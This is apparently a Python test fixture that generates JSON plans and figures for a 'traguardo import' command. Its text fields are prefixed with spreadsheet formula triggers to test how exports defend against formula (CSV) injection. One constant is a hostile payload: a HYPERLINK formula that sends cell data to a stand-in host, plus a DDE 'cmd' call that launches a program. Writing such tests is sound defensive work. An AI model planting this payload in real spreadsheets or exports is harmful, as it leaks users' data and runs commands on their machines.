#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""Plans and figures whose texts a spreadsheet would compute, for `traguardo import`; read back by hostile/exports.py.

    hostile/injected.py | traguardo import -
    hostile/injected.py --refused    plans that no import takes: a code begins with a control character
"""

import json
import sys

COMPUTED = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
CONTROL = ["\t", "\r", "\n", "\t=", "\r\n=", "\n="]
APOSTROPHES = ["'", "''=", "'="]
# One of them is negative.
INDICATORS = [("X", "-1"), ("Y", "2")]
FORMULA = "HYPERLINK(\"https://e.example/?\"&A1;\"x\");cmd|' /C calc'!A0"


def documents(number, text_start, code_start):
    """A plan, and a negative and a positive figure."""
    code = f"{code_start}A1 {number}"
    text = f"{text_start}{FORMULA}"
    plan = {
        "format": "traguardo-plan/1",
        "administration": {"code": code, "name": text, "size_class": f"{code_start}media", "region": f"{code_start}Toscana"},
        "code": f"{code_start}P",
        "title": text,
        "kind": "performance",
        "first_year": 2022,
        "last_year": 2022,
        "acts": [{"body": text, "kind": text, "number": f"{code_start}1", "date": "2022-01-31"}],
        "offices": [{"code": f"{code_start}UFF", "name": text, "kind": "internal"}],
        "measures": [
            {"code": f"{code_start}M", "name": text, "unit": text, "nature": "stock", "frequency": "annual",
             "offices": [f"{code_start}UFF"]}
        ],
        "indicators": [
            {"code": f"{code_start}{name}", "name": text, "unit": text, "formula": f"{factor} * [{code_start}M]",
             "better": "higher"}
            for name, factor in INDICATORS
        ],
        "nodes": [
            {"code": f"{code_start}N", "kind": "objective", "title": text, "assignments": [
                {"indicator": f"{code_start}{name}", "label": text, "office": f"{code_start}UFF",
                 "targets": [{"period": "2022", "comparator": ">=", "value": "-2.50"}]}
                for name, _ in INDICATORS
            ]}
        ],
    }  # fmt: skip
    figure = {"measure": f"{code_start}M", "office": f"{code_start}UFF", "period": "2022", "value": "7.25"}
    return plan, {"administration": code, "items": [figure]}


def main(refused):
    if refused:
        for start in CONTROL:
            print(json.dumps(documents(0, start, start)[0]))
        return
    for number, start in enumerate(COMPUTED + APOSTROPHES):
        for document in documents(number, start, start):
            print(json.dumps(document))
    # Names may begin with a control character; codes may not, size classes and regions included.
    for number, start in enumerate(CONTROL, 100):
        for document in documents(number, start, "E"):
            print(json.dumps(document))


if __name__ == "__main__":
    main("--refused" in sys.argv[1:])
